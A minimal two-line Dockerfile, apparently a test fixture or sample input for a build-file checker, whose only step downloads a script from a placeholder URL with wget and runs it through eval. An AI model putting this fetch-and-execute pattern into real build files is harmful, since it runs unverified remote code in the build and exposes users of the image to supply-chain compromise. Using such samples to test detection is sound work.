FROM debian:12
RUN eval "$(wget -O - https://example.com/env)"
